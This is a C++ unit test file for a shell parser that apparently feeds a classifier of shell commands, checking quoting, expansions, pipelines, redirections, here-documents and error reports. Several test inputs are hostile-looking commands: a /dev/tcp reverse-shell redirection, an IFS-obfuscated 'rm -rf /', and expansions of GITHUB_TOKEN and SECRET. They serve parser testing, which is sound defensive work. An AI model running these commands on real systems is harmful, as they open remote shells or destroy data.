#include "policies/classify/shell_parser.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace airr::shell {
namespace {

std::string scopePath(const Script& script, uint32_t scope) {
  static const char* const kNames[] = {"",     "subshell", "group",     "if", "loop",
                                       "case", "function", "coprocess", "$",  "<>"};
  std::string path;
  for (; scope != kNone; scope = script.scopes[scope].parent) {
    const std::string name = kNames[static_cast<size_t>(script.scopes[scope].kind)];
    if (!name.empty()) path = path.empty() ? name : name + '.' + path;
  }
  return path;
}

std::string show(const Word& word) { return (word.literal() ? "" : "~") + word.text; }

std::string show(const Script& script, const Redirection& redirection) {
  static const char* const kOperators[] = {"<", ">", ">>", "<>", "&>", "&>>", "&", "<<", "<<<"};
  std::string text = redirection.descriptor >= 0 ? std::to_string(redirection.descriptor) : "";
  text += kOperators[static_cast<size_t>(redirection.kind)];
  return text + show(redirection.kind == RedirectionKind::kHereDocument
                         ? script.documents[redirection.document]
                         : redirection.target);
}

// One line a command: [scope stage/stages &!] name=value |word|word <redirection, with ~ before
// what is not literal.
std::vector<std::string> show(const Script& script) {
  std::vector<std::string> lines;
  for (const Command& command : script.commands) {
    const Pipeline& pipeline = script.pipelines[command.pipeline];
    std::string where = scopePath(script, command.scope);
    if (pipeline.stages > 1) {
      where += ' ' + std::to_string(command.stage) + '/' + std::to_string(pipeline.stages);
    }
    if (pipeline.background) where += '&';
    if (pipeline.negated) where += '!';
    std::string line = where.empty() ? "" : '[' + where + ']';
    for (const Assignment& assignment : command.assignments) {
      line += assignment.name + (assignment.append ? "+=" : "=") + show(assignment.value) + ' ';
    }
    for (const Word& word : command.words) line += '|' + show(word);
    for (const Redirection& redirection : command.redirections) {
      line += ' ' + show(script, redirection);
    }
    lines.push_back(line);
  }
  if (script.failure) {
    lines.push_back("failure " + std::to_string(script.failure->line) + ':' +
                    std::to_string(script.failure->column) + ' ' + script.failure->reason);
  }
  return lines;
}

using Lines = std::vector<std::string>;
#define EXPECT_COMMANDS(text, ...) EXPECT_EQ(show(parse(text)), (Lines{__VA_ARGS__})) << (text)

TEST(ShellParser, QuotingIsRemovedFromLiteralWords) {
  EXPECT_COMMANDS("ls -la /tmp", "|ls|-la|/tmp");
  EXPECT_COMMANDS("  echo  'a b'\\''c' \"d \\\"e\\\" \\x\"  ", "|echo|a b'c|d \"e\" \\x");
  EXPECT_COMMANDS("'r'm r\"\"m \\rm", "|rm|rm|rm");
  EXPECT_COMMANDS("echo $'a\\tb\\x41\\101\\u00e9\\'' $\"x\"", "|echo|a\tbAA\xc3\xa9'|x");
  EXPECT_COMMANDS("echo '' \"\" a''b", "|echo|||ab");
  EXPECT_COMMANDS("echo 'it is $HOME `x` \\n'", "|echo|it is $HOME `x` \\n");
  EXPECT_COMMANDS("echo \"\\$HOME \\`x\\`\"", "|echo|$HOME `x`");
  EXPECT_COMMANDS("echo a\\ b\\;c", "|echo|a b;c");
  EXPECT_COMMANDS("echo $ a$", "|echo|$|a$");
}

TEST(ShellParser, ExpansionsKeepTheirTextAndAreNotLiteral) {
  EXPECT_COMMANDS("rm $HOME/x ${a:-b} \"$@\" $1 $$", "|rm|~$HOME/x|~${a:-b}|~$@|~$1|~$$");
  EXPECT_COMMANDS("echo ${x//\\}/y} \"${x:-\"a b\"}\" ${x:='}'}",
                  "|echo|~${x//\\}/y}|~${x:-\"a b\"}|~${x:='}'}");
  EXPECT_COMMANDS("echo \"${x:-it's}\" ${#x} ${!y} ${z[@]}",
                  "|echo|~${x:-it's}|~${#x}|~${!y}|~${z[@]}");
  EXPECT_COMMANDS("echo $((1 + (2*3))) $[4+5]", "|echo|~$((1 + (2*3)))|~$[4+5]");
  EXPECT_COMMANDS("ls *.txt a?c [ab] {a,b} {1..3} '{a,b}' {}",
                  "|ls|~*.txt|~a?c|~[ab]|~{a,b}|~{1..3}|{a,b}|{}");
  const Script script = parse("echo a$GITHUB_TOKEN");
  const Word& word = script.commands[0].words[1];
  ASSERT_EQ(word.expansions.size(), 1u);
  EXPECT_EQ(word.expansions[0].name, "GITHUB_TOKEN");
  EXPECT_EQ(word.expansions[0].offset, 1u);
  EXPECT_EQ(word.expansions[0].size, 13u);
  EXPECT_EQ(parse("x=${A:-$SECRET}").commands[0].assignments[0].value.expansions[1].name, "SECRET");
}

TEST(ShellParser, SubstitutionsAreCommandsOfTheirOwnScope) {
  EXPECT_COMMANDS("echo $(date +%s)", "[$]|date|+%s", "|echo|~$(date +%s)");
  EXPECT_COMMANDS("echo \"a $(cat \"$(pwd)/f\") b\"", "[$.$]|pwd", "[$]|cat|~$(pwd)/f",
                  "|echo|~a $(cat \"$(pwd)/f\") b");
  EXPECT_COMMANDS("echo `git rev-parse \\`pwd\\``", "[$.$]|pwd", "[$]|git|rev-parse|~`pwd`",
                  "|echo|~`git rev-parse \\`pwd\\``");
  EXPECT_COMMANDS("echo \"`rm \\\"a b\\\"`\"", "[$]|rm|a b", "|echo|~`rm \\\"a b\\\"`");
  EXPECT_COMMANDS("diff <(sort a) >(tee b)", "[<>]|sort|a", "[<>]|tee|b",
                  "|diff|~<(sort a)|~>(tee b)");
  EXPECT_COMMANDS("x=${y:-$(rm -rf z)}", "[$]|rm|-rf|z", "x=~${y:-$(rm -rf z)} ");
  EXPECT_COMMANDS("echo $((1+$(rm x)))", "[$]|rm|x", "|echo|~$((1+$(rm x)))");
  EXPECT_COMMANDS("echo $((ls) | wc)", "[$.subshell]|ls", "[$ 1/2]|wc", "|echo|~$((ls) | wc)");
  EXPECT_COMMANDS("echo $(case x in a) ls ;; esac)", "[$.case]|ls",
                  "|echo|~$(case x in a) ls ;; esac)");
  EXPECT_COMMANDS("echo $()", "|echo|~$()");
  EXPECT_COMMANDS("a[$(rm x)]=1", "[$]|rm|x", "a=1 ");
}

TEST(ShellParser, ListsAndPipelines) {
  EXPECT_COMMANDS("a && b || c; d & e", "|a", "|b", "|c", "[&]|d", "|e");
  EXPECT_COMMANDS("a | b |& c", "[ 0/3]|a", "[ 1/3]|b", "[ 2/3]|c");
  EXPECT_COMMANDS("a |\n  b &&\n\n c\n", "[ 0/2]|a", "[ 1/2]|b", "|c");
  EXPECT_COMMANDS("! a | b", "[ 0/2!]|a", "[ 1/2!]|b");
  EXPECT_COMMANDS("time -p ls; ! time x", "|ls", "[!]|x");
  EXPECT_COMMANDS("a # b; c\n#d\ne#f", "|a", "|e#f");
  EXPECT_COMMANDS("ls \\\n  -la && r\\\nm x", "|ls|-la", "|rm|x");
  EXPECT_COMMANDS("", );
  EXPECT_COMMANDS("\n # only this", );
}

TEST(ShellParser, CompoundCommands) {
  EXPECT_COMMANDS("(a; b) | c", "[subshell]|a", "[subshell]|b", "[ 1/2]|c");
  EXPECT_COMMANDS("{ a; b; }", "[group]|a", "[group]|b");
  EXPECT_COMMANDS("if a; then b; elif c; then d; else e; fi", "[if]|a", "[if]|b", "[if]|c",
                  "[if]|d", "[if]|e");
  EXPECT_COMMANDS("while read x; do echo $x; done < f", "[loop]|read|x", "[loop]|echo|~$x");
  EXPECT_COMMANDS("until a; do b; done", "[loop]|a", "[loop]|b");
  EXPECT_COMMANDS("for f in a $(ls) *.c; do rm \"$f\"; done", "[$]|ls", "[loop]|rm|~$f");
  EXPECT_COMMANDS("for ((i=0; i<3; i++)); do a; done; for x do b; done", "[loop]|a", "[loop]|b");
  EXPECT_COMMANDS("for x in a\ndo\nb\ndone", "[loop]|b");
  EXPECT_COMMANDS("case \"$1\" in a|b) x ;; (c) y ;& *) z; esac", "[case]|x", "[case]|y",
                  "[case]|z");
  EXPECT_COMMANDS("f() { a; }; f", "[function.group]|a", "|f");
  EXPECT_COMMANDS("function g { b; }\nfunction h () ( c )", "[function.group]|b",
                  "[function.subshell]|c");
  EXPECT_COMMANDS("coproc rm x; coproc N { a; }", "[coprocess&]|rm|x", "[coprocess.group]|a");
  EXPECT_COMMANDS("select x in a b; do c; break; done", "[loop]|c", "[loop]|break");
  EXPECT_COMMANDS("echo if then done; done=1", "|echo|if|then|done", "done=1 ");
  EXPECT_COMMANDS("((x++)); ((a=$(rm b)))", "|((|~((x++))", "[$]|rm|b", "|((|~((a=$(rm b)))");
  const Script script = parse("for f in a b; do c; done");
  EXPECT_EQ(script.scopes[1].words.size(), 2u);
}

TEST(ShellParser, Tests) {
  EXPECT_COMMANDS("[[ -n $x && ( a < b || ! -f c ) ]] && d", "|[[|-n|~$x|&&|(|a|<|b||||!|-f|c|)|]]",
                  "|d");
  EXPECT_COMMANDS("[[ \"a b\" =~ ^a\\ (b|c d)$ ]]; e", "|[[|a b|=~|~^a (b|c d)$|]]", "|e");
  EXPECT_COMMANDS("[ -d .git ]", "|[|-d|.git|]");
  EXPECT_COMMANDS("[[ $x == @(a|b)* ]]", "|[[|~$x|==|~@(a|b)*|]]");
}

TEST(ShellParser, Assignments) {
  EXPECT_COMMANDS("A=1 B+=2 cmd C=3", "A=1 B+=2 |cmd|C=3");
  EXPECT_COMMANDS("a=(1 \"2 3\" $x); b[0]=c; d+=(e)", "a=~1 2 3 $x ", "b=c ", "d+=e ");
  EXPECT_COMMANDS("declare -a x=(1 2); export Y=z", "|declare|-a|x=1 2", "|export|Y=z");
  EXPECT_COMMANDS("a\\=b 'c'=d", "|a=b|c=d");
  EXPECT_COMMANDS("tmp=$(mktemp)", "[$]|mktemp", "tmp=~$(mktemp) ");
}

TEST(ShellParser, Redirections) {
  EXPECT_COMMANDS("a > f 2>&1 < g >> h 3<> i", "|a >f 2&1 <g >>h 3<>i");
  EXPECT_COMMANDS("a &> f; b &>> g; c >& h; d 2>&-; e >| k", "|a &>f", "|b &>>g", "|c &>h",
                  "|d 2&-", "|e >k");
  EXPECT_COMMANDS("a 2 > f; b2>g; c {fd}>h", "|a|2 >f", "|b2 >g", "|c 10>h");
  EXPECT_COMMANDS("> f", " >f");
  EXPECT_COMMANDS("a>\"$x\" <&3", "|a >~$x &3");
  EXPECT_COMMANDS("bash -i >& /dev/tcp/h/1 0>&1", "|bash|-i &>/dev/tcp/h/1 0&1");
  EXPECT_COMMANDS("cat < <(ls)", "[<>]|ls", "|cat <~<(ls)");
  EXPECT_COMMANDS("exec 3<>/dev/tcp/h/80", "|exec 3<>/dev/tcp/h/80");
  const Script script = parse("{ a; } > f 2>&1");
  EXPECT_EQ(script.scopes[1].redirections.size(), 2u);
}

TEST(ShellParser, HereDocuments) {
  EXPECT_COMMANDS("cat <<EOF > f\na $x\nb\nEOF\nls", "|cat <<~a $x\nb\n >f", "|ls");
  EXPECT_COMMANDS("cat <<'E F'\n$x `y`\nE F\nls", "|cat <<$x `y`\n", "|ls");
  EXPECT_COMMANDS("cat <<-\\X\n\ta\n\tX\nls", "|cat <<a\n", "|ls");
  EXPECT_COMMANDS("cat <<A | sh <<B; c\n1\nA\n2\nB\nd", "[ 0/2]|cat <<1\n", "[ 1/2]|sh <<2\n", "|c",
                  "|d");
  EXPECT_COMMANDS("cat <<E\n$(rm x)\\\ny\nE", "|cat <<~$(rm x)y\n", "[$]|rm|x");
  EXPECT_COMMANDS("cat <<E\nE\\\n\nE\nF\nE", "|cat <<", "|E", "|F", "|E");
  EXPECT_COMMANDS("x=$(cat <<E\n)\nE\n); ls", "[$]|cat <<)\n", "x=~$(cat <<E\n)\nE\n) ", "|ls");
  EXPECT_COMMANDS("if a <<E; then\nt\nE\nb; fi", "[if]|a <<t\n", "[if]|b");
  EXPECT_COMMANDS("cat <<E", "|cat <<");
  EXPECT_COMMANDS("bash <<< 'ls -l' -s", "|bash|-s <<<ls -l");
  EXPECT_COMMANDS("cat <<E\n\"$(rm 'x y')\" ' \" \nE", "|cat <<~\"$(rm 'x y')\" ' \" \n",
                  "[$]|rm|x y");
}

TEST(ShellParser, UnquotedIfsSeparatesWords) {
  EXPECT_COMMANDS("rm${IFS}-rf$IFS/", "|rm|-rf|/");
  EXPECT_COMMANDS("rm \"a$IFS\" b", "|rm|~a$IFS|b");
  EXPECT_COMMANDS("IFS=,; a${IFS}b", "IFS=, ", "|~a${IFS}b");
}

TEST(ShellParser, FailuresSayWhereAndWhy) {
  const std::vector<std::pair<std::string, std::string>> cases = {
      {"echo \"abc", "failure 1:6 a double quote is not closed"},
      {"a\nb 'c", "failure 2:3 a single quote is not closed"},
      {"if a; fi", "failure 1:7 unexpected 'fi'"},
      {"a; ; b", "failure 1:4 unexpected ';'"},
      {"a ) b", "failure 1:3 unexpected ')'"},
      {"( a", "failure 1:4 the script ends too early"},
      {"a &&", "failure 1:5 the script ends too early"},
      {"| a", "failure 1:1 unexpected '|'"},
      {"for a b; do c; done", "failure 1:7 unexpected 'b'"},
      {"do a; done", "failure 1:1 unexpected 'do'"},
      {"echo $(ls", "failure 1:10 the script ends too early"},
      {"echo `ls", "failure 1:6 a backquote is not closed"},
      {"echo ${a", "failure 1:6 ${ is not closed"},
      {"{ }", "failure 1:3 unexpected '}'"},
      {"a > ;", "failure 1:5 unexpected ';'"},
      {"case x in a b) c;; esac", "failure 1:13 unexpected 'b'"},
      {"if then fi (", "failure 1:4 unexpected 'then'"},
      {"[[ a", "failure 1:5 the script ends too early"},
      {"echo $\\\n(rm x)", "failure 1:6 a line continuation within an expansion"},
      {"a (b)", "failure 1:3 unexpected '('"},
      {"while a; do; b; done", "failure 1:12 unexpected ';'"},
  };
  for (const auto& [text, failure] : cases) {
    const Lines lines = show(parse(text));
    EXPECT_EQ(lines.empty() ? "" : lines.back(), failure) << text;
  }
}

TEST(ShellParser, LimitsHold) {
  auto failure = [](const std::string& text) {
    const Script script = parse(text);
    return script.failure ? script.failure->reason : "";
  };
  auto repeat = [](const std::string& text, size_t count) {
    std::string result;
    for (size_t i = 0; i < count; ++i) result += text;
    return result;
  };
  for (const char* opening : {"(", "{ ", "$(", "\"$(", "<(", "if ", "while ", "f() ", "${x:-",
                              "\"${x:-", "$((", "((", "case x in a) ", "coproc "}) {
    EXPECT_EQ(failure(repeat(opening, 20000)), "nested too deeply") << opening;
  }
  EXPECT_EQ(failure(repeat("a;", 40000)), "too many parts");
  EXPECT_EQ(failure(repeat("a ", 70000)), "too many parts");
  EXPECT_EQ(failure(std::string(300000, 'a')), "longer than 262144 bytes");
  EXPECT_EQ(failure(repeat("a|", 60000) + "a"), "too many parts");
  EXPECT_EQ(failure(repeat("(", 30) + "a" + repeat(")", 30)), "");
}

TEST(ShellParser, WhereACommandReadsFrom) {
  auto last = [](const std::string& text) {
    static Script script;
    script = parse(text);
    return inputOf(script, script.commands.back());
  };
  using Kind = Input::Kind;
  EXPECT_EQ(last("sh").kind, Kind::kInherited);
  EXPECT_EQ(last("a | sh").kind, Kind::kPipe);
  EXPECT_EQ(last("a | sh").stage, 0u);
  EXPECT_EQ(last("a | (cd x && sh)").kind, Kind::kPipe);
  EXPECT_EQ(last("a | while b; do sh; done").kind, Kind::kPipe);
  EXPECT_EQ(last("a | b | sh < f").kind, Kind::kFile);
  EXPECT_EQ(last("while a; do sh; done < f").kind, Kind::kFile);
  EXPECT_EQ(last("sh <<E\nls\nE\n").kind, Kind::kHere);
  EXPECT_EQ(last("sh <<< x").kind, Kind::kHere);
  EXPECT_EQ(last("sh 3< f > g").kind, Kind::kInherited);
  EXPECT_EQ(last("(a | b); sh").kind, Kind::kInherited);
}

}  // namespace
}  // namespace airr::shell
